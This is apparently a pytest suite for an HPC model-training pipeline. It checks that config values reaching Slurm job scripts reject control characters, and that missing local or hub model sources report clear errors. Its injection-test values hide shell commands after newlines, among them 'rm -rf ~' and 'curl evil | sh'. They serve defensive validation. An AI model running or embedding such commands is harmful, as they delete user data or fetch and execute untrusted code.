"""Input validation at the edges: control characters in values that reach a job script, and model
sources that do not exist (a missing local directory, a hub id that cannot be fetched)."""

from __future__ import annotations

import copy
import time
from pathlib import Path

import pytest
import yaml

from harc_hpc.io.checkpoint import CheckpointError, resolve_model_path
from harc_hpc.config import ConfigError, load_config, parse_config
from harc_hpc.pipeline.api import with_run_dir

from conftest import write_toy_config

BASE = {"models": {"sources": [{"name": "a", "path": "/models/a"}]}}


def _with(dotted: str, value) -> dict:
    data = copy.deepcopy(BASE)
    node = data
    parts = dotted.split(".")
    for part in parts[:-1]:
        node = node.setdefault(part, {})
    node[parts[-1]] = value
    return data


# -- control characters in the config -----------------------------------------------------------

# case: (dotted key set, its value, key path the error must name, the offending string)
CONTROL_CASES = {
    "run.name": ("run.name", "r1\ntouch /tmp/pwned", "run.name", None),
    "run.output_dir": ("run.output_dir", "runs\nrm -rf ~", "run.output_dir", None),
    "partition": ("executor.partition", "gpu\nrm -rf ~", "executor.partition", None),
    "account": ("executor.account", "proj\necho hi", "executor.account", None),
    "qos": ("executor.qos", "normal\r", "executor.qos", None),
    "extra_sbatch key": ("executor.extra_sbatch", {"constraint\nrm -rf ~": "a100"},
                         "executor.extra_sbatch", "constraint\nrm -rf ~"),
    "extra_sbatch value": ("executor.extra_sbatch", {"constraint": "a100\nrm -rf ~"},
                           "executor.extra_sbatch.constraint", "a100\nrm -rf ~"),
    "stage partition": ("executor.stages", {"solve-router": {"partition": "gpu\nid"}},
                        "executor.stages.solve-router.partition", "gpu\nid"),
    "stage account": ("executor.stages", {"solve-router": {"account": "p\x00"}},
                      "executor.stages.solve-router.account", "p\x00"),
    "stage qos": ("executor.stages", {"merge-experts": {"qos": "q\x1b[2J"}},
                  "executor.stages.merge-experts.qos", "q\x1b[2J"),
    "stage extra_sbatch value": ("executor.stages", {"solve-router": {"extra_sbatch": {"gres": "gpu:1\nid"}}},
                                 "executor.stages.solve-router.extra_sbatch.gres", "gpu:1\nid"),
    "stage extra_sbatch key": ("executor.stages", {"solve-router": {"extra_sbatch": {"gr\tes": "gpu:1"}}},
                               "executor.stages.solve-router.extra_sbatch", "gr\tes"),
    "setup line": ("executor.setup", ["module load cuda", "source env.sh\ncurl evil | sh"],
                   "executor.setup[1]", "source env.sh\ncurl evil | sh"),
    "tab": ("executor.partition", "gpu\tx", "executor.partition", None),
    "DEL": ("executor.partition", "gpu\x7f", "executor.partition", None),
}


@pytest.mark.parametrize("case", list(CONTROL_CASES))
def test_control_character_is_refused_and_names_the_key(case):
    dotted, value, key_path, bad = CONTROL_CASES[case]
    with pytest.raises(ConfigError) as err:
        parse_config(_with(dotted, value), source="c.yaml")
    text = str(err.value)
    assert text.startswith("c.yaml: invalid configuration")
    assert f"\n  {key_path}: " in text and "contains the control character" in text
    assert repr(value if bad is None else bad) in text  # shown with repr(): the character is visible
    assert len(text.splitlines()) == 2  # the bad value does not break the message into lines


def test_control_character_is_reported_by_load_config(tmp_path):
    path = write_toy_config(tmp_path)
    data = yaml.safe_load(path.read_text())
    data["executor"]["stages"] = {"solve-router": {"partition": "gpu\nscancel -u $USER"}}
    path.write_text(yaml.safe_dump(data))
    with pytest.raises(ConfigError) as err:
        load_config(path)
    text = str(err.value)
    assert str(path) in text
    assert "executor.stages.solve-router.partition: contains the control character '\\n'" in text
    assert repr("gpu\nscancel -u $USER") in text


def test_override_with_control_character_is_refused(tmp_path):
    path = write_toy_config(tmp_path)
    with pytest.raises(ConfigError, match=r"executor\.qos: contains the control character"):
        load_config(path, overrides={"executor.qos": "normal\nid"})


def test_output_dir_from_environment_variable_with_newline_is_refused(monkeypatch):
    monkeypatch.setenv("HARC_TEST_SCRATCH", "/scratch\nrm -rf ~")
    with pytest.raises(ConfigError) as err:
        parse_config(_with("run.output_dir", "$HARC_TEST_SCRATCH/runs"), source="c.yaml")
    assert "run.output_dir: after expanding environment variables" in str(err.value)
    assert repr("/scratch\nrm -rf ~/runs") in str(err.value)


def test_one_line_values_are_accepted():
    data = copy.deepcopy(BASE)
    data["run"] = {"name": "r-1 (trial)", "output_dir": "/scratch/me/runs"}
    data["executor"] = {
        "partition": "gpu", "account": "proj-42", "qos": "normal",
        "extra_sbatch": {"constraint": "a100|h100", "exclusive": True, "nodes": 1},
        "setup": ["module load cuda/12.4", "source .venv/bin/activate && export OMP_NUM_THREADS=1"],
        "stages": {"solve-router": {"partition": "gpu-long", "extra_sbatch": {"gres": "gpu:1"}}},
    }
    cfg = parse_config(data, source="c.yaml")
    assert cfg.executor.setup[1] == "source .venv/bin/activate && export OMP_NUM_THREADS=1"
    assert cfg.executor.extra_sbatch == {"constraint": "a100|h100", "exclusive": True, "nodes": 1}
    assert cfg.executor.stages["solve-router"].partition == "gpu-long"
    assert cfg.run.name == "r-1 (trial)"


# -- --run-dir ------------------------------------------------------------------------------------

def test_with_run_dir_refuses_a_newline(tmp_path):
    cfg = load_config(write_toy_config(tmp_path))
    bad = tmp_path / "runs" / "r1\ntouch pwned"
    with pytest.raises(ConfigError) as err:
        with_run_dir(cfg, bad)
    text = str(err.value)
    assert text.startswith("--run-dir: contains the control character '\\n'")
    assert repr(str(bad)) in text


def test_with_run_dir_accepts_a_plain_directory(tmp_path):
    cfg = load_config(write_toy_config(tmp_path))
    out = with_run_dir(cfg, tmp_path / "elsewhere" / "r2")
    assert out.run_dir == (tmp_path / "elsewhere" / "r2").resolve()


# -- model sources that do not exist --------------------------------------------------------------

@pytest.fixture
def hub_cache(tmp_path, monkeypatch):
    """An empty hub cache of its own, and no offline setting from the environment."""
    from huggingface_hub import constants

    cache = tmp_path / "hub-cache"
    cache.mkdir()
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(cache))
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
    monkeypatch.delenv("TRANSFORMERS_OFFLINE", raising=False)
    return cache


def test_missing_relative_dir_with_one_slash_is_local(tmp_path, monkeypatch, hub_cache):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "models").mkdir()
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("models/olmoe-math")
    text = str(err.value)
    assert "no such directory: models/olmoe-math" in text
    assert str(tmp_path / "models" / "olmoe-math") in text
    assert "owner/name" in text
    assert "HFValidationError" not in text and "Repo id" not in text


def test_missing_dot_relative_dir_is_local(tmp_path, monkeypatch, hub_cache):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("./models/olmoe-math")
    assert "no such directory: ./models/olmoe-math" in str(err.value)
    assert str(tmp_path / "models" / "olmoe-math") in str(err.value)


def test_missing_absolute_dir(tmp_path, hub_cache):
    missing = tmp_path / "no" / "such" / "model"
    with pytest.raises(CheckpointError) as err:
        resolve_model_path(str(missing))
    assert f"no such directory: {missing}" in str(err.value)
    assert "owner/name" in str(err.value)


def test_source_without_hub_id_form_is_local(tmp_path, monkeypatch, hub_cache):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("my model!")
    assert "no such directory: my model!" in str(err.value)


def test_hub_id_offline_names_the_id(tmp_path, monkeypatch, hub_cache):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    start = time.monotonic()
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("harc-hpc-test/no-such-model", revision="v2")
    elapsed = time.monotonic() - start
    text = str(err.value)
    assert text.startswith("harc-hpc-test/no-such-model (revision v2): ")
    assert "not in the local hub cache and HF_HUB_OFFLINE is set" in text
    assert "hf download harc-hpc-test/no-such-model --revision v2 --local-dir" in text
    assert elapsed < 15  # (it is immediate: no network is tried)


def test_hub_id_without_download_names_the_id(tmp_path, monkeypatch, hub_cache):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("harc-hpc-test/no-such-model", allow_download=False)
    assert "harc-hpc-test/no-such-model: " in str(err.value)
    assert "downloads are disabled" in str(err.value)


def test_hub_id_online_that_cannot_be_fetched_names_the_id(tmp_path, monkeypatch, hub_cache):
    """The real network try: here the hub cannot be reached; with internet the repo does not exist."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HF_HUB_ETAG_TIMEOUT", "5")
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("harc-hpc-test/no-such-model-0f3a9c")
    text = str(err.value)
    assert text.startswith("harc-hpc-test/no-such-model-0f3a9c: ")
    assert ("the hub could not be reached" in text) or ("does not exist on the hub" in text)
    assert "--local-dir" in text and "HF_HUB_OFFLINE=1" in text


def test_hub_that_does_not_answer_is_given_up_on(tmp_path, monkeypatch, hub_cache):
    import huggingface_hub

    def hang(self, *args, **kwargs):
        time.sleep(5)

    monkeypatch.setattr(huggingface_hub.HfApi, "repo_info", hang)
    monkeypatch.setenv("HF_HUB_ETAG_TIMEOUT", "0.3")
    monkeypatch.chdir(tmp_path)
    start = time.monotonic()
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("owner/slow-model")
    assert time.monotonic() - start < 3
    assert "owner/slow-model: " in str(err.value)
    assert "the hub could not be reached (no answer within 0.3 s)" in str(err.value)


def test_missing_revision_on_the_hub_is_named(tmp_path, monkeypatch, hub_cache):
    import huggingface_hub
    from huggingface_hub.errors import RevisionNotFoundError

    def no_revision(self, *args, **kwargs):
        exc = RevisionNotFoundError.__new__(RevisionNotFoundError)
        Exception.__init__(exc, "404 Client Error: Revision Not Found")
        raise exc

    monkeypatch.setattr(huggingface_hub.HfApi, "repo_info", no_revision)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CheckpointError) as err:
        resolve_model_path("owner/model", revision="v9")
    assert str(err.value).startswith("owner/model (revision v9): ")
    assert "the hub has the repository but not the revision 'v9'" in str(err.value)


def test_hub_id_in_the_local_cache_resolves_offline(tmp_path, monkeypatch, hub_cache):
    commit = "0123456789abcdef0123456789abcdef01234567"
    repo = hub_cache / "models--owner--cached-model"
    snapshot = repo / "snapshots" / commit
    snapshot.mkdir(parents=True)
    (snapshot / "config.json").write_text("{}")
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text(commit)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.chdir(tmp_path)
    assert Path(resolve_model_path("owner/cached-model")) == snapshot
    assert Path(resolve_model_path("owner/cached-model", revision=commit)) == snapshot
